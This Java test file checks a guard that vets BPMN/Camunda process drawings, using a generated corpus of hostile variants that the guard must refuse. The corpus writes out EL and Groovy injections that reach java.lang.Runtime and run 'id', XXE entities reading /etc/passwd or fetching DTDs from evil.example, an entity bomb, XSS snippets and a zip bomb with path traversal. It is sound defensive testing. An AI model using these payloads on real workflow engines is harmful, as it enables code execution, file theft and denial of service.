package cn.yijianshi.catalogue.guard;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.yijianshi.catalogue.Catalogue;
import cn.yijianshi.catalogue.Drawing;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

/** Each of these models would run code, fetch something, never end or choke the reader, were it deployed. */
class HostileDrawingsTest {

    private static final Path FOLDER = Path.of("..");
    private static final String SOUND = """
            <?xml version="1.0" encoding="UTF-8"?>
            <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC"
                xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
                xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="d" targetNamespace="t">
              <bpmn:process id="one" isExecutable="true" camunda:versionTag="1">
                <bpmn:startEvent id="s"></bpmn:startEvent>
                <bpmn:inclusiveGateway id="g" default="past"></bpmn:inclusiveGateway>
                <bpmn:callActivity id="review" calledElement="item-review">
                  <bpmn:extensionElements><camunda:in businessKey="#{reviewIds.next()}"/></bpmn:extensionElements>
                </bpmn:callActivity>
                <bpmn:inclusiveGateway id="h"></bpmn:inclusiveGateway>
                <bpmn:endEvent id="e"></bpmn:endEvent>
                <bpmn:sequenceFlow id="a" sourceRef="s" targetRef="g"/>
                <bpmn:sequenceFlow id="b" sourceRef="g" targetRef="review"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${plan.needs(execution, 'review')}</bpmn:conditionExpression></bpmn:sequenceFlow>
                <bpmn:sequenceFlow id="c" sourceRef="review" targetRef="h"/>
                <bpmn:sequenceFlow id="past" sourceRef="g" targetRef="h"/>
                <bpmn:sequenceFlow id="z" sourceRef="h" targetRef="e"></bpmn:sequenceFlow>
              </bpmn:process>
              <bpmndi:BPMNDiagram id="x"><bpmndi:BPMNPlane id="p" bpmnElement="one">
                <bpmndi:BPMNShape id="s1" bpmnElement="s"><dc:Bounds x="0" y="0" width="36" height="36"/></bpmndi:BPMNShape>
              </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
            </bpmn:definitions>
            """;

    /** Where something can be put: right after the opening tag of an element. */
    private static final Map<String, String> PLACES = new TreeMap<>(Map.of(
            "definitions", "targetNamespace=\"t\">",
            "process", "camunda:versionTag=\"1\">",
            "start", "<bpmn:startEvent id=\"s\">",
            "gateway", "default=\"past\">",
            "call", "calledElement=\"item-review\">",
            "extension", "<bpmn:extensionElements>",
            "flow", "targetRef=\"e\">",
            "end", "<bpmn:endEvent id=\"e\">",
            "shape", "bpmnElement=\"s\">"));

    private static final Map<String, String> ELEMENTS = Map.ofEntries(
            Map.entry(
                    "<bpmn:scriptTask id='n' scriptFormat='js'><bpmn:script>1</bpmn:script></bpmn:scriptTask>",
                    "script"),
            Map.entry("<bpmn:script>java.lang.Runtime.getRuntime()</bpmn:script>", "script"),
            Map.entry("<camunda:script scriptFormat='groovy'>'id'.execute()</camunda:script>", "script"),
            Map.entry("<bpmn:serviceTask id='n' camunda:class='java.lang.ProcessBuilder'/>", "element"),
            Map.entry("<bpmn:serviceTask id='n' camunda:expression='${1}'/>", "element"),
            Map.entry("<bpmn:sendTask id='n' camunda:class='x.Y'/>", "element"),
            Map.entry("<bpmn:businessRuleTask id='n' camunda:decisionRef='d'/>", "element"),
            Map.entry("<bpmn:userTask id='n'/>", "element"),
            Map.entry("<bpmn:manualTask id='n'/>", "element"),
            Map.entry("<bpmn:receiveTask id='n'/>", "element"),
            Map.entry("<bpmn:task id='n'/>", "element"),
            Map.entry("<bpmn:subProcess id='n'/>", "element"),
            Map.entry("<bpmn:transaction id='n'/>", "element"),
            Map.entry("<bpmn:adHocSubProcess id='n'/>", "element"),
            Map.entry("<bpmn:boundaryEvent id='n' attachedToRef='review'/>", "element"),
            Map.entry("<bpmn:intermediateThrowEvent id='n'/>", "element"),
            Map.entry("<bpmn:intermediateCatchEvent id='n'/>", "element"),
            Map.entry("<bpmn:complexGateway id='n'/>", "element"),
            Map.entry("<bpmn:exclusiveGateway id='n'/>", "element"),
            Map.entry("<bpmn:eventBasedGateway id='n'/>", "element"),
            Map.entry("<bpmn:multiInstanceLoopCharacteristics/>", "repeats"),
            Map.entry("<bpmn:standardLoopCharacteristics/>", "repeats"),
            Map.entry(
                    "<bpmn:timerEventDefinition><bpmn:timeCycle>R/PT1S</bpmn:timeCycle></bpmn:timerEventDefinition>",
                    "element"),
            Map.entry("<bpmn:timeCycle>R/PT1S</bpmn:timeCycle>", "timer-cycle"),
            Map.entry("<bpmn:signalEventDefinition/>", "element"),
            Map.entry("<bpmn:errorEventDefinition/>", "element"),
            Map.entry("<bpmn:compensateEventDefinition/>", "element"),
            Map.entry("<bpmn:terminateEventDefinition/>", "element"),
            Map.entry("<bpmn:linkEventDefinition/>", "element"),
            Map.entry(
                    "<bpmn:conditionalEventDefinition><bpmn:condition>${1}</bpmn:condition></bpmn:conditionalEventDefinition>",
                    "element"),
            Map.entry("<bpmn:messageEventDefinition camunda:class='x.Y'/>", "element"),
            Map.entry("<bpmn:ioSpecification/>", "element"),
            Map.entry("<bpmn:dataObject id='n'/>", "element"),
            Map.entry("<bpmn:property id='n'/>", "element"),
            Map.entry("<bpmn:potentialOwner/>", "element"),
            Map.entry("<bpmn:import importType='t' location='file:///etc/passwd' namespace='n'/>", "element"),
            Map.entry("<bpmn:interface id='n' implementationRef='java.lang.Runtime'/>", "element"),
            Map.entry("<bpmn:itemDefinition id='n' structureRef='java.lang.Runtime'/>", "element"),
            Map.entry("<bpmn:collaboration id='n'/>", "element"),
            Map.entry("<bpmn:laneSet id='n'/>", "element"),
            Map.entry("<camunda:executionListener class='x.Y' event='start'/>", "listener"),
            Map.entry("<camunda:executionListener expression='${1}' event='end'/>", "listener"),
            Map.entry("<camunda:taskListener delegateExpression='${x}' event='create'/>", "listener"),
            Map.entry(
                    "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>",
                    "connector"),
            Map.entry(
                    "<camunda:inputOutput><camunda:inputParameter name='a'>${1}</camunda:inputParameter></camunda:inputOutput>",
                    "connector"),
            Map.entry(
                    "<camunda:field name='a'><camunda:expression>${1}</camunda:expression></camunda:field>", "element"),
            Map.entry("<camunda:formData/>", "element"),
            Map.entry("<camunda:properties/>", "element"),
            Map.entry("<camunda:out variables='all'/>", "element"),
            Map.entry("<camunda:failedJobRetryTimeCycle>R99/PT0S</camunda:failedJobRetryTimeCycle>", "element"),
            Map.entry("<camunda:errorEventDefinition expression='${1}'/>", "element"),
            Map.entry("<evil xmlns='http://evil.example/'/>", "namespace"),
            Map.entry("<evil xmlns=''/>", "namespace"),
            Map.entry(
                    "<zeebe:taskDefinition xmlns:zeebe='http://camunda.org/schema/zeebe/1.0' type='x'/>", "namespace"),
            Map.entry("<activiti:executionListener xmlns:activiti='http://activiti.org/bpmn' class='x'/>", "namespace"),
            Map.entry(
                    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>", "namespace"),
            Map.entry("<svg:script xmlns:svg='http://www.w3.org/2000/svg'>alert(1)</svg:script>", "namespace"));

    private static final Map<String, String> ATTRIBUTES = Map.ofEntries(
            Map.entry("camunda:class=\"java.lang.Runtime\"", "class"),
            Map.entry("camunda:expression=\"${''.getClass().forName('java.lang.Runtime')}\"", "attribute"),
            Map.entry("camunda:delegateExpression=\"${runtimeService}\"", "attribute"),
            Map.entry("camunda:resultVariable=\"x\"", "attribute"),
            Map.entry("camunda:type=\"external\"", "attribute"),
            Map.entry("camunda:topic=\"x\"", "attribute"),
            Map.entry("camunda:assignee=\"${''.getClass()}\"", "attribute"),
            Map.entry("camunda:candidateGroups=\"${x}\"", "attribute"),
            Map.entry("camunda:dueDate=\"${x}\"", "attribute"),
            Map.entry("camunda:formKey=\"embedded:app:evil.html\"", "attribute"),
            Map.entry("camunda:initiator=\"x\"", "attribute"),
            Map.entry("camunda:asyncBefore=\"true\"", "attribute"),
            Map.entry("camunda:jobPriority=\"${x}\"", "attribute"),
            Map.entry("camunda:taskPriority=\"${x}\"", "attribute"),
            Map.entry("camunda:variableMappingClass=\"x.Y\"", "attribute"),
            Map.entry("camunda:variableMappingDelegateExpression=\"${x}\"", "attribute"),
            Map.entry("camunda:calledElementTenantId=\"${x}\"", "attribute"),
            Map.entry("camunda:calledElementBinding=\"latest\"", "attribute"),
            Map.entry("camunda:modelerTemplate=\"evil\"", "template"),
            Map.entry("camunda:modelerTemplateVersion=\"1\"", "template"),
            Map.entry("camunda:candidateStarterUsers=\"all\"", "attribute"),
            Map.entry("camunda:isStartableInTasklist=\"true\"", "attribute"),
            Map.entry("camunda:collection=\"${x}\"", "attribute"),
            Map.entry("camunda:resource=\"classpath://evil.js\"", "script"),
            Map.entry("scriptFormat=\"javascript\"", "script"),
            Map.entry("language=\"javascript\"", "script"),
            Map.entry("expressionLanguage=\"groovy\"", "script"),
            Map.entry("implementation=\"##WebService\"", "attribute"),
            Map.entry("isForCompensation=\"true\"", "attribute"),
            Map.entry("isInterrupting=\"true\"", "attribute"),
            Map.entry("onload=\"alert(1)\"", "attribute"),
            Map.entry("xsi:schemaLocation=\"http://evil.example/ http://evil.example/x.xsd\"", "attribute"),
            Map.entry("xml:base=\"http://evil.example/\"", "namespace"),
            Map.entry("xmlns:e=\"http://evil.example/\" e:class=\"x\"", "namespace"));

    private static final List<String> CARRIERS = List.of(
            "<bpmn:process ",
            "<bpmn:startEvent ",
            "<bpmn:callActivity ",
            "<bpmn:sequenceFlow ",
            "<bpmn:endEvent ",
            "<bpmn:conditionExpression ",
            "<bpmn:inclusiveGateway ",
            "<camunda:in ",
            "<bpmndi:BPMNShape ");

    private static final List<String> FREE = List.of(
            "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}",
            "#{''.getClass()}",
            "${execution.processEngineServices.repositoryService.createDeployment()}",
            "${execution.setVariable('x', 1)}",
            "${execution}",
            "${plan}",
            "${plan.needs}",
            "${plan.getClass()}",
            "${plan.needs(execution, 'review') || true}",
            "${plan.needs(execution, execution.id)}",
            "${plan.needs(execution, 'a').getClass()}",
            "${T(java.lang.Runtime).getRuntime()}",
            "${1 == 1}",
            "${true}",
            "true",
            "",
            "${systemUtil.getenv('PATH')}",
            "${plan.needs(execution, 'review')}${''.getClass()}",
            "${reviewIds.next()}",
            "${clock.climb(execution)}",
            "${openReview}",
            "${plan['class']}",
            "${(x -> x)(1)}",
            "${x = 1}",
            "${plan.needs(execution, 'REVIEW')}",
            "${&#x27;&#x27;.getClass()}",
            "<![CDATA[${''.getClass()}]]>",
            "${pl<!-- -->an.getClass()}");

    /** @param code what it must be refused for; null: whatever it is, it is refused */
    private record Hostile(String name, byte[] drawing, String code) {
        Hostile(String name, String drawing, String code) {
            this(name, drawing.getBytes(UTF_8), code);
        }
    }

    @Test
    void the_model_they_are_made_of_is_sound() {
        assertThat(Guard.inspect(Kind.BUNDLE, SOUND).refusals()).isEmpty();
    }

    @Test
    void letters_of_every_script_are_seen() {
        for (var said : List.of("企业开办", "\t\n\r ~\u007F", "\u2029\u202F\u2065\u206A", "\uD7FF\uE000\uFFFD", "𠮷😀"))
            assertThat(Guard.inspect(Kind.BUNDLE, named(said)).refusals())
                    .as("%s", said)
                    .isEmpty();
    }

    @Test
    void what_nobody_sees_what_turns_the_writing_and_half_a_letter_are_refused_by_their_number() {
        for (var said : List.of(
                "\0", "\b", "\u000B", "\f", "\u000E", "\u001F", "\u202A", "\u202E", "\u2066", "\u2069", "\uFEFF",
                "\uFFFE", "\uFFFF", "\uD83D", "\uDE00")) {
            var refusals = Guard.inspect(Kind.BUNDLE, named("件" + said + "事")).refusals();
            assertThat(refusals).extracting(Refusal::code).containsExactly("character");
            assertThat(refusals.get(0).args()).containsExactly("U+%04X".formatted((int) said.charAt(0)));
            assertThat(refusals.get(0).line()).isEqualTo(7);
        }
    }

    private static String named(String said) {
        return SOUND.replace("id=\"s\"", "id=\"s\" name=\"" + said + "\"");
    }

    @Test
    void every_hostile_model_is_refused_with_a_reason() throws IOException {
        var corpus = corpus();
        assertThat(corpus).hasSizeGreaterThan(800);
        for (var hostile : corpus) {
            var refusals = Guard.inspect(Kind.BUNDLE, hostile.drawing()).refusals();
            assertThat(refusals).as(hostile.name()).isNotEmpty();
            assertThat(refusals).as(hostile.name()).allSatisfy(refusal -> {
                assertThat(refusal.words(Locale.ENGLISH)).isNotBlank().doesNotContain("{0}", "{1}");
                assertThat(refusal.words(Locale.CHINESE)).containsPattern("\\p{IsHan}");
            });
            if (hostile.code() != null)
                assertThat(refusals)
                        .as(hostile.name())
                        .extracting(Refusal::code)
                        .contains(hostile.code());
        }
    }

    @Test
    void none_of_them_is_a_review_either() throws IOException {
        for (var hostile : corpus())
            assertThat(Guard.inspect(Kind.REVIEW, hostile.drawing()).refusals())
                    .as(hostile.name())
                    .isNotEmpty();
    }

    @Test
    void every_shipped_drawing_passes() throws IOException {
        var shipped = Catalogue.load(FOLDER);
        for (var bundle : shipped.bundles())
            for (var version : shipped.versions(bundle.key()))
                assertThat(Drawing.read(shipped.drawing(bundle.key(), version.version()), version, shipped::item)
                                .refusals())
                        .as(bundle.key())
                        .isEmpty();
        assertThat(Guard.inspect(Kind.REVIEW, review()).refusals()).isEmpty();
    }

    @Test
    void the_review_keeps_its_clock_and_its_escalation() throws IOException {
        for (var without : List.of(
                "camunda:expression=\"${clock.announce(execution, 'ESCALATED')}\"",
                "camunda:expression=\"${clock.announce(execution, 'OVERDUE')}\""))
            assertThat(Guard.inspect(
                                    Kind.REVIEW,
                                    review().replace(without, "camunda:expression=\"${clock.climb(execution)}\""))
                            .refusals())
                    .extracting(Refusal::code)
                    .containsExactly("review-without");
    }

    @Test
    void a_loop_of_the_review_waits() throws IOException {
        var loop = review().replace(
                        "sourceRef=\"onward\" targetRef=\"wait\"", "sourceRef=\"onward\" targetRef=\"climb\"")
                .replace("<bpmn:incoming>onward_to_wait</bpmn:incoming>", "");
        assertThat(Guard.inspect(Kind.REVIEW, loop).refusals())
                .extracting(Refusal::code)
                .contains("loop");
    }

    @Test
    void a_timer_is_set_by_the_clock_alone() throws IOException {
        for (var other : List.of(
                "<bpmn:timeCycle>R/PT1S</bpmn:timeCycle>",
                "<bpmn:timeDuration>PT0S</bpmn:timeDuration>",
                "<bpmn:timeDate>2020-01-01T00:00:00</bpmn:timeDate>"))
            assertThat(Guard.inspect(Kind.REVIEW, review().replaceFirst("<bpmn:timeDate.*</bpmn:timeDate>", other))
                            .refusals())
                    .isNotEmpty();
    }

    @Test
    void a_finding_names_element_and_line() {
        var refusal = Guard.inspect(
                        Kind.BUNDLE, SOUND.replace("id=\"review\" called", "id=\"review\" camunda:class=\"x\" called"))
                .refusals()
                .get(0);
        assertThat(refusal.element()).isEqualTo("review");
        assertThat(refusal.line()).isEqualTo(9);
    }

    @Test
    void every_code_has_words_in_both_languages() throws IOException {
        var english = keys("words.properties");
        assertThat(keys("words_zh.properties")).isEqualTo(english);
    }

    @Test
    void a_drawing_is_of_the_process_it_is_given_for() {
        assertThat(Guard.demand(Kind.BUNDLE, "one", SOUND.getBytes(UTF_8)).nodes())
                .containsKey("review");
        assertThatThrownBy(() -> Guard.demand(Kind.BUNDLE, "item-review", SOUND.getBytes(UTF_8)))
                .isInstanceOf(UnsoundDrawing.class)
                .hasMessageContaining("process-id");
    }

    private static Set<String> keys(String file) throws IOException {
        var words = new java.util.Properties();
        try (var in = Guard.class.getResourceAsStream(file)) {
            words.load(new java.io.InputStreamReader(in, UTF_8));
        }
        return words.stringPropertyNames();
    }

    private static String review() throws IOException {
        return Files.readString(FOLDER.resolve("engine/src/main/resources/item-review.bpmn"));
    }

    private static List<Hostile> corpus() throws IOException {
        var corpus = new ArrayList<Hostile>();
        PLACES.forEach((place, after) -> ELEMENTS.forEach((element, code) ->
                corpus.add(new Hostile(element + " in " + place, SOUND.replace(after, after + element), code))));
        for (var carrier : CARRIERS)
            ATTRIBUTES.forEach((attribute, code) -> corpus.add(new Hostile(
                    attribute + " at " + carrier,
                    SOUND.replaceFirst(carrier, quote(carrier + attribute + " ")),
                    code)));
        for (var free : FREE) {
            corpus.add(
                    new Hostile("condition " + free, SOUND.replace("${plan.needs(execution, 'review')}", free), null));
            corpus.add(new Hostile(
                    "business key " + free,
                    SOUND.replace(
                            "#{reviewIds.next()}", free.replace("<", "&lt;").replace("${r", "${R")),
                    null));
        }
        for (var carrier : List.of("<bpmn:process ", "<bpmn:callActivity ", "<bpmn:sequenceFlow "))
            for (var name : List.of("${''.getClass()}", "#{x}"))
                corpus.add(new Hostile(
                        "name " + name,
                        SOUND.replaceFirst(carrier, quote(carrier + "name=\"" + name + "\" ")),
                        "value"));
        doctypes(corpus);
        sizes(corpus);
        shapes(corpus);
        encodings(corpus);
        return corpus;
    }

    private static void doctypes(List<Hostile> corpus) {
        var bomb = new StringBuilder("<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 20; i++)
            bomb.append("<!ENTITY a%d \"%s\">".formatted(i, ("&a" + (i - 1) + ";").repeat(10)));
        for (var doctype : List.of(
                "<!DOCTYPE bpmn:definitions>",
                "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">",
                "<!DOCTYPE x PUBLIC \"-//X\" \"http://evil.example/x.dtd\">",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE x [<!ENTITY e \"x\">]>",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>",
                "<!DOCTYPE x [" + bomb + "]>",
                "<!DOCTYPE x [<!ENTITY a \"" + "x".repeat(50_000) + "\">]>",
                "<!DOCTYPE x [<!ATTLIST bpmn:process isExecutable CDATA \"true\">]>",
                "<!doctype x>")) {
            var named = SOUND.replaceFirst("\n", quote("\n" + doctype + "\n"));
            corpus.add(new Hostile(doctype, named, doctype.contains("doctype") ? "not-xml" : "doctype"));
            corpus.add(new Hostile(doctype + " used", named.replace("id=\"s\"", "id=\"s\" name=\"&e;&a19;\""), null));
        }
        corpus.add(new Hostile("unknown entity", SOUND.replace(">${plan", ">&e;${plan"), null));
        corpus.add(new Hostile(
                "instruction", SOUND.replace("<bpmn:process", "<?php evil() ?><bpmn:process"), "instruction"));
        corpus.add(new Hostile(
                "stylesheet", SOUND.replaceFirst("\n", "\n<?xml-stylesheet href=\"evil.xsl\"?>\n"), "instruction"));
    }

    private static void sizes(List<Hostile> corpus) {
        corpus.add(new Hostile(
                "10^5 nodes",
                SOUND.replace("<bpmn:endEvent", many(100_000, "<bpmn:endEvent id=\"n%d\"/>") + "<bpmn:endEvent"),
                "too-large"));
        corpus.add(new Hostile(
                "10^5 small nodes", SOUND.replace("<bpmn:endEvent", "<a/>".repeat(100_000) + "<bpmn:endEvent"), null));
        corpus.add(new Hostile(
                "10^4 waypoints",
                SOUND.replace(
                        "</bpmndi:BPMNPlane>",
                        "<bpmndi:BPMNEdge id=\"w\" bpmnElement=\"a\">" + "<di:waypoint x=\"1\" y=\"1\"/>".repeat(10_000)
                                + "</bpmndi:BPMNEdge></bpmndi:BPMNPlane>"),
                "too-many"));
        corpus.add(new Hostile(
                "500 steps",
                SOUND.replace("<bpmn:endEvent", many(500, "<bpmn:parallelGateway id=\"n%d\"/>") + "<bpmn:endEvent"),
                "too-many-nodes"));
        corpus.add(new Hostile(
                "deep",
                SOUND.replace(
                        "<bpmn:endEvent",
                        "<bpmn:subProcess>".repeat(30_000) + "</bpmn:subProcess>".repeat(30_000) + "<bpmn:endEvent"),
                null));
        corpus.add(new Hostile(
                "nested",
                SOUND.replace(
                        "<bpmn:endEvent",
                        "<bpmn:subProcess>".repeat(100) + "</bpmn:subProcess>".repeat(100) + "<bpmn:endEvent"),
                "too-deep"));
        corpus.add(new Hostile("unclosed", "<a>".repeat(10_000), null));
        corpus.add(new Hostile(
                "long name", SOUND.replace("id=\"s\"", "id=\"s\" name=\"" + "x".repeat(10_000) + "\""), "value"));
        corpus.add(new Hostile(
                "huge name",
                SOUND.replace("id=\"s\"", "id=\"s\" name=\"" + "x".repeat(2_000_000) + "\""),
                "too-large"));
        corpus.add(new Hostile("long id", SOUND.replace("id=\"s1\"", "id=\"" + "x".repeat(500) + "\""), "value"));
        corpus.add(new Hostile(
                "many attributes", SOUND.replace("id=\"s\"", "id=\"s\"" + many(5_000, " a%d=\"1\"")), "attribute"));
        corpus.add(new Hostile(
                "long text",
                SOUND.replace(
                        "<bpmn:startEvent id=\"s\">",
                        "<bpmn:startEvent id=\"s\"><bpmn:documentation>" + "x".repeat(5_000) + "</bpmn:documentation>"),
                "too-long"));
        corpus.add(new Hostile("far away", SOUND.replace("width=\"36\"", "width=\"99999999\""), "value"));
        corpus.add(new Hostile("no number", SOUND.replace("width=\"36\"", "width=\"NaN\""), "value"));
        corpus.add(new Hostile(
                "kept for ever",
                SOUND.replace("camunda:versionTag", "camunda:historyTimeToLive=\"${x}\" camunda:versionTag"),
                "value"));
    }

    private static String many(int count, String pattern) {
        var all = new StringBuilder();
        for (int i = 0; i < count; i++) all.append(pattern.formatted(i));
        return all.toString();
    }

    private static void shapes(List<Hostile> corpus) {
        corpus.add(new Hostile(
                "loop over a gateway",
                SOUND.replace("sourceRef=\"h\" targetRef=\"e\"", "sourceRef=\"h\" targetRef=\"g\""),
                "loop"));
        corpus.add(new Hostile(
                "loop over a review",
                SOUND.replace(
                        "id=\"past\" sourceRef=\"g\" targetRef=\"h\"",
                        "id=\"past\" sourceRef=\"h\" targetRef=\"review\""),
                "loop"));
        corpus.add(new Hostile(
                "loop onto itself",
                SOUND.replace(
                        "id=\"past\" sourceRef=\"g\" targetRef=\"h\"", "id=\"past\" sourceRef=\"g\" targetRef=\"g\""),
                "loop"));
        corpus.add(new Hostile("the same id twice", SOUND.replace("id=\"h\"", "id=\"g\""), "duplicate-id"));
        corpus.add(new Hostile("the same id in the picture", SOUND.replace("id=\"s1\"", "id=\"s\""), "duplicate-id"));
        corpus.add(new Hostile("the same attribute twice", SOUND.replace("id=\"s\"", "id=\"s\" id=\"s\""), "not-xml"));
        corpus.add(new Hostile(
                "another process",
                SOUND.replace(
                        "<bpmndi:BPMNDiagram", "<bpmn:process id=\"two\" isExecutable=\"true\"/><bpmndi:BPMNDiagram"),
                "processes"));
        corpus.add(
                new Hostile("no process", SOUND.replaceFirst("(?s)<bpmn:process.*</bpmn:process>", ""), "no-process"));
        corpus.add(new Hostile(
                "asleep", SOUND.replace("isExecutable=\"true\"", "isExecutable=\"false\""), "not-executable"));
        corpus.add(new Hostile(
                "two starts",
                SOUND.replace("<bpmn:endEvent id=\"e\">", "<bpmn:startEvent id=\"s9\"/><bpmn:endEvent id=\"e\">"),
                "starts"));
        corpus.add(new Hostile("no start", SOUND.replace("bpmn:startEvent", "bpmn:parallelGateway"), "starts"));
        corpus.add(new Hostile(
                "island",
                SOUND.replace("<bpmn:endEvent id=\"e\">", "<bpmn:endEvent id=\"e9\"/><bpmn:endEvent id=\"e\">"),
                "not-reached"));
        corpus.add(new Hostile("dead end", SOUND.replaceFirst("<bpmn:sequenceFlow id=\"c\".*", ""), "no-end"));
        corpus.add(
                new Hostile("into the air", SOUND.replace("targetRef=\"e\"", "targetRef=\"nowhere\""), "loose-flow"));
        corpus.add(new Hostile("another's default", SOUND.replace("default=\"past\"", "default=\"z\""), "reference"));
        corpus.add(new Hostile(
                "picture of nothing", SOUND.replace("bpmnElement=\"s\"", "bpmnElement=\"nothing\""), "reference"));
        corpus.add(new Hostile("calls another process", SOUND.replace("\"item-review\"", "\"company_start\""), "call"));
        corpus.add(new Hostile("calls by expression", SOUND.replace("\"item-review\"", "\"${x}\""), "value"));
        corpus.add(new Hostile("calls itself", SOUND.replace("\"item-review\"", "\"one\""), "call"));
        corpus.add(new Hostile(
                "hands over everything",
                SOUND.replace("<camunda:in businessKey=\"#{reviewIds.next()}\"/>", "<camunda:in variables=\"all\"/>"),
                "attribute"));
        corpus.add(new Hostile(
                "hands over nothing",
                SOUND.replaceFirst("<bpmn:extensionElements>.*</bpmn:extensionElements>", ""),
                "business-key"));
        corpus.add(new Hostile(
                "two conditions",
                SOUND.replace(
                        "</bpmn:conditionExpression>",
                        "</bpmn:conditionExpression><bpmn:conditionExpression>${plan.needs(execution, 'x')}</bpmn:conditionExpression>"),
                "condition-twice"));
        corpus.add(new Hostile(
                "a condition of another type",
                SOUND.replace("bpmn:tFormalExpression", "camunda:tFormalExpression"),
                "value"));
        corpus.add(new Hostile("text between steps", SOUND.replace("<bpmn:endEvent", "${x}<bpmn:endEvent"), "text"));
        corpus.add(new Hostile("a page", "<html><body onload=\"alert(1)\"/></html>", "namespace"));
        corpus.add(new Hostile(
                "another root",
                "<bpmn:process xmlns:bpmn=\"" + Vocabulary.BPMN + "\" id=\"one\" isExecutable=\"true\"/>",
                "misplaced"));
        corpus.add(new Hostile("nothing", "", "not-xml"));
        corpus.add(new Hostile("json", "{\"process\": 1}", "not-xml"));
        corpus.add(new Hostile("cut off", SOUND.substring(0, SOUND.length() / 2), "not-xml"));
        corpus.add(new Hostile("two roots", SOUND + "<x/>", "not-xml"));
    }

    private static void encodings(List<Hostile> corpus) throws IOException {
        for (var charset : List.of("UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "GB18030"))
            corpus.add(new Hostile(
                    "written in " + charset, (SOUND + "<!-- 一件事 -->").getBytes(Charset.forName(charset)), null));
        for (var named : List.of("UTF-7", "UTF-16", "ISO-8859-1", "GBK", "EBCDIC-CP-US", "x-evil"))
            corpus.add(new Hostile(
                    "says " + named, SOUND.replace("encoding=\"UTF-8\"", "encoding=\"" + named + "\""), null));
        corpus.add(new Hostile("UTF-7", "+ADw-bpmn:definitions+AD4-", "not-xml"));
        corpus.add(new Hostile("version 1.1", SOUND.replace("version=\"1.0\"", "version=\"1.1\""), "not-xml"));
        corpus.add(new Hostile("a mark before", "\uFEFF" + SOUND, "character"));
        corpus.add(new Hostile("a nought", SOUND.replace("id=\"s\"", "id=\"s\" name=\"\0\""), "character"));
        corpus.add(new Hostile(
                "written backwards", SOUND.replace("id=\"s\"", "id=\"s\" name=\"\u202Eevil\""), "character"));
        corpus.add(new Hostile("a letter cut in two", new byte[] {'<', 'a', (byte) 0xC3, '>'}, "encoding"));
        corpus.add(new Hostile("an overlong letter", new byte[] {(byte) 0xC0, (byte) 0xBC, 'a', '/', '>'}, "encoding"));
        var zip = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("../process.bpmn"));
            for (int i = 0; i < 1000; i++) out.write(new byte[10_000]);
        }
        corpus.add(new Hostile("zip bomb", zip.toByteArray(), "archive"));
        var gzip = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(gzip)) {
            out.write(SOUND.getBytes(UTF_8));
        }
        corpus.add(new Hostile("gzip", gzip.toByteArray(), "archive"));
    }

    private static String quote(String replacement) {
        return java.util.regex.Matcher.quoteReplacement(replacement);
    }
}
